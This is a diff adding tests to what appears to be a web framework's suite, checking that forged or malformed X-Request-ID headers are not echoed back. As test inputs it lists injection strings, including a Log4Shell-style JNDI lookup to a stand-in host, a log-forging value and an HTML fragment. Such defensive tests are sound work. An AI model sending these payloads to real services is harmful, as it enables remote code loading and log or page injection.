@@ -179,6 +179,23 @@ def test_the_request_id_is_echoed_and_can_be_switched_off(make_app):
     assert off.text == "none" and "X-Request-ID" not in off.headers
 
 
+def test_an_app_can_refuse_every_incoming_request_id(make_app):
+    def view(request: Request) -> Response:
+        return Response(request.request_id)
+
+    app = make_app(view, settings={"deferred_task.trust_request_id_header": "false"})
+    answer = app.get("/", headers={"X-Request-ID": "req-42"})
+    assert answer.text == answer.headers["X-Request-ID"] != "req-42"
+    assert len(answer.text) == 32
+
+
+@pytest.mark.parametrize("forged", ["req|ERROR|forged", "${jndi:ldap://evil.example/a}", "<b>x</b>"])
+def test_an_incoming_id_outside_the_pattern_is_never_echoed(make_app, forged):
+    app = make_app(lambda request: Response(request.request_id))
+    answer = app.get("/", headers={"X-Request-ID": forged})
+    assert answer.text == answer.headers["X-Request-ID"] != forged
+
+
 def test_observers_get_each_request_s_report(make_app):
     reports: list[tuple[str, ...]] = []
 
